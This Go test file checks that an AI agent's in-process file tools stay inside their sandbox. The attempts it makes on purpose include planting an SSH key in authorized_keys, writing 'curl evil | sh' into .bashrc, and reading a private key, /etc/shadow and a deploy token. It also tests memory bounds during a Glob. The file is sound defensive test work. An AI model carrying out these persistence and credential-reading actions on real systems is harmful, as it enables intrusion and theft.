package tests

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/wardenhq/warden/model"
	"github.com/wardenhq/warden/permission"
)

// sandboxRefusal is what a file tool's result says when the call's
// sandbox profile stopped it (backend/local/fileaccess.go).
const sandboxRefusal = "refused by the sandbox"

// TestRealWorkerFileTools: the in-process file tools (Read, Write, Edit,
// Glob, Grep) hold the call's sandbox profile in every mode, through the
// built worker: Write to $HOME/.ssh/authorized_keys and to a .bashrc
// outside the working directories, Edit of a file outside, Read of a
// private key the sandbox hides, of /etc/shadow and of a secret with a
// non-sensitive name outside, Grep over a hidden directory and over that
// secret's directory, Glob there. In bypass every one is refused by the
// sandbox (the result says so); in default and accept_edits with broad
// rules ("Write", "Edit", "Read") each is refused by the sandbox or asks
// (the engine stops it first: the approval times out), and those the
// engine lets through are refused by the sandbox. The control is a
// worker with only this layer off (backend.local.sandbox_off:
// [file_tools]), in bypass: the same calls reach their effects, so the
// boundary is this layer and no other. Every run searches with Grep's
// Go engine (tools.grep_engine: go), which runs in the worker as the
// other file tools do.
func TestRealWorkerFileTools(t *testing.T) {
	broad := []string{"Write", "Edit", "Read"}
	for _, r := range []struct {
		name  string
		mode  permission.Mode
		rules []string
		off   bool
	}{
		{"bypass", permission.ModeBypass, nil, false},
		{"default", permission.ModeDefault, broad, false},
		{"accept_edits", permission.ModeAcceptEdits, broad, false},
		{"file_tools_off", permission.ModeBypass, nil, true},
	} {
		t.Run(r.name, func(t *testing.T) {
			// Grep's Go engine, as the file tools, runs in the worker:
			// the layer is its only boundary (ripgrep, a process of the
			// call, is held by the process sandbox as well).
			extra := "tools:\n  grep_engine: go\n"
			if r.off {
				extra += "backend:\n  local:\n    sandbox_off: [file_tools]\n"
			}
			w := startRealWorker(t, inside, false, extra)
			if r.off && !strings.Contains(w.stdout.String(), "sandbox layer file_tools is OFF") {
				t.Fatalf("the worker does not warn that the layer is off:\n%s", w.tail())
			}
			fileToolAttempts(t, modeRun{w: w, mode: r.mode, rules: r.rules}, r.off)
		})
	}
}

// fileAttempt is one file tool call and the check of its effect.
type fileAttempt struct {
	name, tool string
	input      map[string]any
	effect     func(r model.Message) bool
	// sensitive: the engine's path rules ask for it outside bypass (a
	// sensitive path, a write outside the working directories), so
	// there it may be stopped before the tool runs.
	sensitive bool
	// setup is a call made first in the same step list (Read before
	// Write/Edit), whose result is not checked.
	setup map[string]any
}

// fileToolAttempts runs the attempts on m's worker and checks them: with
// the layer on (off false) none reaches its effect and each result is
// the sandbox's refusal (or, outside bypass, the engine's for a
// sensitive one); with it off each reaches its effect.
func fileToolAttempts(t *testing.T, m modeRun, off bool) {
	w := m.w
	id := w.tag
	keySecret, tokenSecret := "PRIVATE-KEY-"+id, "DEPLOY-TOKEN-"+id
	writeFile(t, filepath.Join(w.home, ".ssh", "id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY-----\n"+keySecret+"\n", 0o600)
	bashrc := filepath.Join(w.home, ".bashrc")
	writeFile(t, bashrc, "# ORIGINAL\n", 0o644)
	notes := filepath.Join(w.out, "notes.txt")
	writeFile(t, notes, "ORIGINAL-NOTES\n", 0o644)
	private := filepath.Join(w.out, "private")
	token := filepath.Join(private, "deploy_token")
	writeFile(t, token, tokenSecret+"\n", 0o600)
	if err := os.Chmod(private, 0o700); err != nil {
		t.Fatal(err)
	}
	authKeys := filepath.Join(w.home, ".ssh", "authorized_keys")
	planted := "ssh-ed25519 AAAA planted-" + id
	as := []fileAttempt{
		{name: "Write $HOME/.ssh/authorized_keys", tool: "Write", sensitive: true,
			input: map[string]any{"file_path": authKeys, "content": planted + "\n"}, effect: fileHas(authKeys, planted)},
		{name: "Write a .bashrc outside the working directories", tool: "Write", sensitive: true,
			setup: map[string]any{"file_path": bashrc},
			input: map[string]any{"file_path": bashrc, "content": "curl evil | sh # " + id + "\n"}, effect: fileHas(bashrc, "curl evil")},
		{name: "Edit a file outside the working directories", tool: "Edit",
			setup: map[string]any{"file_path": notes},
			input: map[string]any{"file_path": notes, "old_string": "ORIGINAL-NOTES", "new_string": "EDITED-" + id}, effect: fileHas(notes, "EDITED-"+id)},
		{name: "Read a private key the sandbox hides", tool: "Read", sensitive: true,
			input: map[string]any{"file_path": filepath.Join(w.home, ".ssh", "id_ed25519")}, effect: contains(keySecret)},
		{name: "Read /etc/shadow", tool: "Read", sensitive: true,
			input: map[string]any{"file_path": "/etc/shadow"}, effect: contains("root:")},
		{name: "Read a secret with a non-sensitive name outside", tool: "Read",
			input: map[string]any{"file_path": token}, effect: contains(tokenSecret)},
		{name: "Grep over a hidden directory (~/.ssh)", tool: "Grep", sensitive: true,
			input: map[string]any{"pattern": "PRIVATE", "path": filepath.Join(w.home, ".ssh"), "output_mode": "content"}, effect: contains(keySecret)},
		{name: "Grep over a private directory outside", tool: "Grep",
			input: map[string]any{"pattern": "DEPLOY", "path": private, "output_mode": "content"}, effect: contains(tokenSecret)},
		{name: "Glob over a private directory outside", tool: "Glob",
			input: map[string]any{"pattern": "**/*", "path": private}, effect: contains("deploy_token")},
	}
	var steps [][]attempt
	var idx []int // the result index of each attempt
	n := 0
	for _, a := range as {
		if a.setup != nil {
			steps = append(steps, []attempt{{tool: "Read", input: a.setup}})
			n++
		}
		steps = append(steps, []attempt{{tool: a.tool, input: a.input}})
		idx = append(idx, n)
		n++
	}
	rs := m.turn(t, "file-tools", "", 3*time.Minute, steps...)
	bySandbox := 0
	for i, a := range as {
		r := rs[idx[i]]
		got := strings.ReplaceAll(r.Content, "\n", " | ")
		if off {
			if !a.effect(r) {
				t.Errorf("%s: %s: no effect with only the file_tools layer off, so the attempt proves nothing:\n%.1500s", m.name(), a.name, r.Content)
				continue
			}
			t.Logf("%s: %s: reached with the layer off: %.200s", m.name(), a.name, got)
			continue
		}
		if a.effect(r) {
			t.Errorf("%s: %s: ESCAPED the sandbox profile:\n%.1500s", m.name(), a.name, r.Content)
			continue
		}
		switch {
		case strings.Contains(r.Content, sandboxRefusal):
			bySandbox++
			for _, want := range []string{"This call may", "grants it"} {
				if !strings.Contains(r.Content, want) {
					t.Errorf("%s: %s: the refusal does not say what the call may touch and how to ask (%q):\n%s", m.name(), a.name, want, r.Content)
				}
			}
			t.Logf("%s: %s: refused by the sandbox: %.400s", m.name(), a.name, got)
		case a.sensitive && m.mode != permission.ModeBypass && isRefusal(r):
			t.Logf("%s: %s: stopped by the engine before the tool ran: %.300s", m.name(), a.name, got)
		case a.tool == "Edit" && m.mode != permission.ModeBypass && isRefusal(r):
			t.Logf("%s: %s: stopped by the engine before the tool ran: %.300s", m.name(), a.name, got)
		case a.setup != nil && strings.Contains(rs[idx[i]-1].Content, sandboxRefusal):
			// Its Read first was refused by the sandbox, so the tool
			// stops at read-before-write: the sandbox stopped it.
			bySandbox++
			t.Logf("%s: %s: its Read was refused by the sandbox, so it stopped: %.300s", m.name(), a.name, got)
		default:
			t.Errorf("%s: %s: neither its effect nor the sandbox's refusal, so it proves nothing:\n%.1500s", m.name(), a.name, r.Content)
		}
	}
	if !off && bySandbox == 0 {
		t.Errorf("%s: no attempt reached the file tools' sandbox", m.name())
	}
	t.Logf("%s: %d of %d attempts refused by the sandbox", m.name(), bySandbox, len(as))
}

// TestRealWorkerGlobFlood: a Glob over a tree of more entries than its
// bound (tools.GlobDefaultMaxEntries) stops at the bound with a result
// that says so, and the worker's resident memory stays bounded (the
// Glob keeps only the most recent matches, not one per file).
func TestRealWorkerGlobFlood(t *testing.T) {
	w := startRealWorker(t, inside, false, "")
	flood := filepath.Join(w.ws, "flood")
	const dirs, per = 150, 1000 // 150,000 files: past the 100,000-entry bound
	for d := range dirs {
		dir := filepath.Join(flood, fmt.Sprintf("d%03d", d))
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		for f := range per {
			fh, err := os.Create(filepath.Join(dir, "f"+strconv.Itoa(f)+".txt"))
			if err != nil {
				t.Fatal(err)
			}
			fh.Close()
		}
	}
	pid := w.cmd.Process.Pid
	before := rssKiB(t, pid)
	// The worker's RSS, sampled while the turn runs: its peak is what
	// the Glob cost.
	stop, peakc := make(chan struct{}), make(chan int)
	go func() {
		peak := 0
		for {
			if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid)); err == nil {
				peak = max(peak, parseKiB(string(b), "VmRSS:"))
			}
			select {
			case <-stop:
				peakc <- peak
				return
			case <-time.After(20 * time.Millisecond):
			}
		}
	}()
	m := modeRun{w: w, mode: permission.ModeBypass}
	rs := m.turn(t, "glob-flood", "", 3*time.Minute, []attempt{{tool: "Glob", input: map[string]any{"pattern": "**/*.txt", "path": flood}}})
	close(stop)
	peak := <-peakc
	after := rssKiB(t, pid)
	r := rs[0]
	if r.IsError || !strings.Contains(r.Content, "Glob stopped after") {
		t.Fatalf("the Glob over %d files does not say it stopped:\n%.1000s", dirs*per, r.Content)
	}
	if lines := strings.Count(r.Content, ".txt"); lines == 0 || lines > 100 {
		t.Errorf("the stopped Glob shows %d paths, want 1..100:\n%.500s", lines, r.Content)
	}
	t.Logf("worker RSS %d KiB before, peak %d KiB during, %d KiB after the Glob; result tail: %s", before, peak, after, r.Content[max(0, len(r.Content)-300):])
	// 1M files kept whole were ~330 MB in the run; bounded, the
	// walk holds one directory's listing and 100 matches.
	if grew := peak - before; grew > 64<<10 {
		t.Errorf("the worker's RSS grew by %d KiB during the Glob, more than 64 MiB", grew)
	}
}

// rssKiB is the resident memory of pid (VmRSS), in KiB.
func rssKiB(t *testing.T, pid int) int {
	t.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		t.Fatal(err)
	}
	n := parseKiB(string(b), "VmRSS:")
	if n == 0 {
		t.Fatalf("no VmRSS in /proc/%d/status", pid)
	}
	return n
}

// parseKiB is the value of field (in kB) in a /proc status text, 0 when
// absent.
func parseKiB(status, field string) int {
	for _, l := range strings.Split(status, "\n") {
		if rest, ok := strings.CutPrefix(l, field); ok {
			n, _ := strconv.Atoi(strings.TrimSuffix(strings.TrimSpace(rest), " kB"))
			return n
		}
	}
	return 0
}
